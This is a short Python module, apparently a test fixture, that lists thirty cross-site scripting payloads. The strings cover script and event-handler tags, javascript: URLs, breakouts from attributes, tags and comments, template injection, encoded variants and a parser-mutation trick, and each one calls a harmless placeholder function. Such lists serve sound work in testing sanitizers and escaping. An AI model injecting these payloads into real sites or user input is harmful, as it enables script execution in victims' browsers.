"""Thirty texts that would run a script in a page that takes them for more than text."""

from __future__ import annotations

PAYLOADS = (
    # elements
    "<script>xss()</script>",
    "<ScRiPt src=data:,xss()></sCrIpT>",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<a href=javascript:xss()>here</a>",
    "<form action=javascript:xss()><button>Save</button></form>",
    "<meta http-equiv=refresh content=0;url=javascript:xss()>",
    "<base href=javascript:xss()//>",
    "<style>@import'data:text/css,*{background:url(javascript:xss())}';</style>",
    "<div style=animation-name:x onanimationstart=xss()>",
    # out of an attribute, a tag, a comment, a script
    '" autofocus onfocus=xss() x="',
    "' onmouseover=xss() x='",
    '"><img src=x onerror=xss()>',
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "--><script>xss()</script><!--",
    "';xss();//",
    # what a template or a script would make of it
    "{{7*7}}${xss()}{%if 1%}x{%endif%}",
    "javascript:xss()//",
    # what is decoded once too often, and what a parser mends
    "&lt;script&gt;xss()&lt;/script&gt;",
    "%3Cscript%3Exss()%3C/script%3E",
    "\\u003cimg src=x onerror=xss()\\u003e ＜script＞xss()＜/script＞",
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
)
